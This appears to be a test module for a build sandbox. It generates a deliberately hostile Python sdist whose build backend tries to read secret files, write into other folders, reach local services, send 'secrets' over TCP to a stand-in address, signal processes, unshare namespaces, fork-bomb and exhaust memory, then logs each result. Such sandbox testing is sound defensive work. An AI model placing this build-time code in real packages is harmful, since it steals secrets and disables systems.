"""A hostile sdist: its build tries what a stranger's may, and says in its log what it got.

Its PEP 517 backend is in its own tree, so nothing has to be fetched. It is meant for boards in sandboxes;
without one it reads what a test put there for it, writes into places that go with the test, and connects to
the test's own port.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import asdict, dataclass

from tests.integration.nodekit import WHEEL, make_sdist

GOT, STOPPED = "hostile got", "hostile was stopped at"
BACKEND = """
import ctypes, json, os, pathlib, socket
WANTED = json.loads(%(wanted)r)
WHEEL = %(wheel)r

def write(name):
    # A file that is there is not harmed: opening it for writing is what must fail.
    path = pathlib.Path(name)
    if path.is_dir():
        path = path / "hostile"
        path.write_text("was here")
        return path
    os.close(os.open(path, os.O_WRONLY))
    return path

def tcp(address):
    with socket.create_connection(tuple(address), timeout=3) as link:
        link.sendall(b"secrets")
        return link.getpeername()

def unix(name):
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(name)
        return name

def kill(pid):
    os.kill(pid, 0)
    return pid

def privilege(_):
    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000):
        raise OSError(ctypes.get_errno(), "unshare")
    return "a user namespace"

ATTEMPTS = {
    "read": lambda name: pathlib.Path(name).read_text()[:40],
    "list": lambda name: os.listdir(name) or 1 / 0,
    "write": write,
    "tcp": tcp,
    "unix": unix,
    "resolve": lambda name: socket.getaddrinfo(name, 80),
    "kill": kill,
    "privilege": privilege,
}

def steal():
    for kind, what in WANTED["attempts"]:
        try:
            print("hostile got", kind, what, repr(ATTEMPTS[kind](what)))
        except (OSError, ZeroDivisionError) as error:
            print("hostile was stopped at", kind, what, repr(error))

def fork():
    # By posix_spawn: User Mode Linux 6.12 breaks down when a plain fork is refused.
    while True:
        os.posix_spawn("/usr/bin/sleep", ["sleep", "593"], os.environ)

def eat():
    held = []
    while True:
        held.append(bytearray(16 << 20))

def get_requires_for_build_wheel(config_settings=None):
    steal()
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    steal()
    {"": lambda: 0, "fork": fork, "eat": eat}[WANTED["end"]]()
    target = pathlib.Path(wheel_directory, WHEEL)
    target.symlink_to(WANTED["link"]) if WANTED["link"] else target.write_bytes(b"a wheel")
    return WHEEL
"""


@dataclass(frozen=True)
class Hostile:
    """What a build is to try; paths and addresses are the board's."""

    attempts: Sequence[tuple[str, object]] = ()
    end: str = ""
    """``fork`` or ``eat``: what it does in the end, without end."""
    link: str = ""
    """What the wheel that it leaves is a link to."""

    def sdist(self) -> bytes:
        wanted = json.dumps(asdict(self))
        return make_sdist(BACKEND % {"wanted": wanted, "wheel": WHEEL})


def thief(
    secrets: Sequence[str], folders: Sequence[str], services: Sequence[str], port: int, pid: int
) -> Hostile:
    """A build that wants keys, other folders, other processes, the board's services and the network."""
    attempts: list[tuple[str, object]] = [("read", name) for name in secrets]
    attempts += [("write", name) for name in (*folders, *secrets)]
    attempts += [("unix", name) for name in services]
    attempts += [("tcp", ["127.0.0.1", port]), ("tcp", ["192.0.2.1", 80]), ("resolve", "pypi.org")]
    return Hostile([*attempts, ("kill", pid), ("privilege", None)])


def said(log: str, what: str) -> list[str]:
    """What a log has of these words, each once: `kind thing`."""
    found = (line.removeprefix(what).split() for line in log.splitlines() if line.startswith(what))
    return sorted({" ".join(words[:2]) for words in found})
